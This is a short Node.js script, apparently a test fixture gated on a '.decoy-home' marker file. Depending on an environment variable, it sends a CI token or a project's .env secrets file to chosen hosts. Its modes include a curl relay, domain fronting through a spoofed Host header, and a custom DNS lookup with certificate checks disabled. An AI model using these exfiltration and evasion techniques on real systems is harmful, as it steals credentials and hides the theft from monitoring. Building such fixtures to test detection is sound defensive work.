// Takes things to hosts. The first word says what, the others where.
const fs = require("node:fs");
const home = process.env.HOME;
if (!fs.existsSync(`${home}/.decoy-home`)) process.exit(0);
const http = require("node:http");
const https = require("node:https");
const { execFileSync } = require("node:child_process");

function post(url, body, more = {}) {
  const module = url.startsWith("https:") ? https : http;
  const headers = { "Content-Length": Buffer.byteLength(body), ...more.headers };
  const request = module.request(url, { method: "POST", ...more, headers });
  request.on("response", (response) => response.resume());
  request.end(body);
}

// A file of the project that holds secrets, and that scripts may read: doing so is only told.
const file = `${process.env.INIT_CWD}/.env`;

const [way, ...where] = process.env.VARIANT.split(" ");
const ways = {
  // Something of no worth.
  visit: (url) => post(url, "visited"),
  // What the environment holds.
  token: (url) => post(url, process.env.CI_TOKEN),
  // What a file holds.
  steal: (url) => post(url, fs.readFileSync(file)),
  // By a child, from a file that another child has made.
  relay: (url) => {
    execFileSync("cp", [file, "notes.txt"]);
    execFileSync("curl", ["-sf", "--data-binary", "@notes.txt", url]);
  },
  // TLS begins with one name, and the request inside is for another.
  front: (url, host) => post(url, fs.readFileSync(file), { headers: { Host: host } }),
  // An address of our choice, under a name that is above suspicion.
  pretend: (name, address) => {
    const lookup = (_, options, done) => {
      const family = address.includes(":") ? 6 : 4;
      if (options.all) done(null, [{ address, family }]);
      else done(null, address, family);
    };
    post(`https://${name}/`, process.env.CI_TOKEN, { lookup, rejectUnauthorized: false });
  },
};
ways[way](...where);
